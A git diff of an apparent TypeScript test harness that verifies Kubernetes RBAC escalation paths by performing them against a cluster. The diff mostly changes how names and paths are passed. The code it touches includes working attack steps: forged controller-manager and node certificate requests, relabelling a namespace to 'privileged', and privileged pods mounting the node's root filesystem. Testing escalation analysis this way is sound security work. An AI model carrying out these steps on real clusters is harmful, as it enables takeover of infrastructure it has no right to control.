@@ -6,7 +6,7 @@ import { escalations, isTreasure, opensStream, pod, PRIVILEGED, reachesKubelet, 
 import { Escalation, EscalationRequest } from '../../src/kubernetes/rbac/escalations';
 import { PolicyRule } from '../../src/kubernetes/rbac/policy-rule';
 import { certificateRequest } from '../certificates';
-import { RequestOptions, Response } from '../client';
+import { Client, RequestOptions, Response } from '../client';
 
 /** What an attempt has to go by. */
 export interface Use {
@@ -138,17 +138,17 @@ async function seen(attacker: Attacker, { verb, resource }: EscalationRequest, p
 
 /** A client certificate, which the attacker asks for; undefined where it does not get or see it. */
 export async function certificateFor(
-  attacker: Attacker, { user, group, signer, approval, reading }:
-  { readonly user: string; readonly group?: string; readonly signer: string; readonly approval?: EscalationRequest; readonly reading?: EscalationRequest },
+  attacker: Attacker, { user, group, signer, name = freshName('csr'), approval, reading }:
+  { readonly user: string; readonly name?: string; readonly group?: string; readonly signer: string; readonly approval?: EscalationRequest; readonly reading?: EscalationRequest },
 ): Promise<RequestOptions | undefined> {
   const { certificate: request, key } = certificateRequest(user, group);
   const object = {
     apiVersion: `${CERTIFICATES}/v1`,
     kind: 'CertificateSigningRequest',
-    metadata: { name: freshName('csr') },
+    metadata: { name },
     spec: { request: Buffer.from(request).toString('base64'), signerName: `kubernetes.io/${signer}`, usages: ['digital signature', 'client auth'] },
   };
-  const path = `${await pathOf(object)}/${object.metadata.name}`;
+  const path = `${await pathOf(object)}/${name}`;
   const asked = await attacker.request('POST', await pathOf(object), { body: object });
   if (asked.status !== 201) { return undefined; }
   if (approval) {
@@ -196,11 +196,11 @@ async function bindsItself({ attacker }: Use, verb: string, binding: any): Promi
   return status < 300;
 }
 
-async function labels(attacker: Attacker, verb: string): Promise<boolean> {
+async function labels(attacker: Attacker, { verb, resource }: EscalationRequest): Promise<boolean> {
   const path = `/api/v1/namespaces/${GUARDED}`;
   const { body } = await client.request('GET', path);
   const change = { metadata: { labels: { 'pod-security.kubernetes.io/enforce': 'privileged' } } };
-  const { status } = await send(verb, { ...body, metadata: { ...body.metadata, resourceVersion: undefined, labels: { ...body.metadata.labels, ...change.metadata.labels } } }, change, path, attacker);
+  const { status } = await send(verb, { ...body, metadata: { ...body.metadata, resourceVersion: undefined, labels: { ...body.metadata.labels, ...change.metadata.labels } } }, change, `${path}${resource.slice('namespaces'.length)}`, attacker);
   return status === 200;
 }
 
@@ -212,12 +212,12 @@ const rootPod = (): any => ({
   spec: { containers: [{ name: 'app', image: 'x', securityContext: { privileged: true } }], volumes: [{ name: 'root', hostPath: { path: '/' } }] },
 });
 
-async function runsPrivilegedPod({ attacker, uses: [{ verb }] }: Use): Promise<boolean> {
+async function runsPrivilegedPod({ attacker, uses: [labelling] }: Use): Promise<boolean> {
   const object = rootPod();
   const path = await pathOf(object);
   const run = (): Promise<Response> => attacker.request('POST', path, { body: object });
   try {
-    if (!await labels(attacker, verb)) { return (await run()).status === 201; }
+    if (!await labels(attacker, labelling)) { return (await run()).status === 201; }
     let { status, body } = await run();
     while (status === 403 && /PodSecurity/.test(body.message)) { ({ status, body } = await run()); }
     return status === 201;
@@ -228,7 +228,7 @@ async function runsPrivilegedPod({ attacker, uses: [{ verb }] }: Use): Promise<b
 }
 
 /** A pod that "restricted" lets in, and whose volume is the root directory of the node. */
-export async function mountsNodeVolume(attacker: Pick<Attacker, 'request'>, namespace = GUARDED): Promise<boolean> {
+export async function mountsNodeVolume(attacker: Pick<Client, 'request'>, namespace = GUARDED): Promise<boolean> {
   const name = freshName('volume');
   const volume = {
     apiVersion: 'v1',
@@ -518,22 +518,25 @@ export const EDGE_ATTEMPTS: { readonly [title: string]: EdgeAttempt } = {
   'escalate-roles to cluster-admin by the name of a held-role in the cluster': { name: fresh('own'), roleName: name => name, run: use => escalates(use, 'ClusterRole', use.name) },
   'approve-client-certificates to cluster-admin in the cluster': {
     needsControllers: true,
-    run: async ({ attacker, uses }) => {
-      const user = await certificateFor(attacker, { user: CONTROLLER_MANAGER, signer: 'kube-apiserver-client', approval: uses[1] });
+    name: fresh('csr'),
+    run: async ({ attacker, uses, name }) => {
+      const user = await certificateFor(attacker, { name, user: CONTROLLER_MANAGER, signer: 'kube-apiserver-client', approval: uses[1] });
       return user !== undefined && becomesAdministrator(attacker, await tokenOf(user, SYSTEM, AGGREGATOR));
     },
   },
   'approve-node-certificates to node in the cluster': {
     needsControllers: true,
-    run: async ({ attacker, uses }) => {
-      const node = await certificateFor(attacker, { user: 'system:node:recorder', group: 'system:nodes', signer: 'kube-apiserver-client-kubelet', approval: uses[1] });
+    name: fresh('csr'),
+    run: async ({ attacker, uses, name }) => {
+      const node = await certificateFor(attacker, { name, user: 'system:node:recorder', group: 'system:nodes', signer: 'kube-apiserver-client-kubelet', approval: uses[1] });
       return node !== undefined && reads(node);
     },
   },
   'create-node-certificates to node in the cluster': {
     needsControllers: true,
-    run: async ({ attacker, uses }) => {
-      const node = await certificateFor(attacker, { user: 'system:node:recorder', group: 'system:nodes', signer: 'kube-apiserver-client-kubelet', reading: uses[2] });
+    name: fresh('csr'),
+    run: async ({ attacker, uses, name }) => {
+      const node = await certificateFor(attacker, { name, user: 'system:node:recorder', group: 'system:nodes', signer: 'kube-apiserver-client-kubelet', reading: uses[2] });
       return node !== undefined && reads(node);
     },
   },
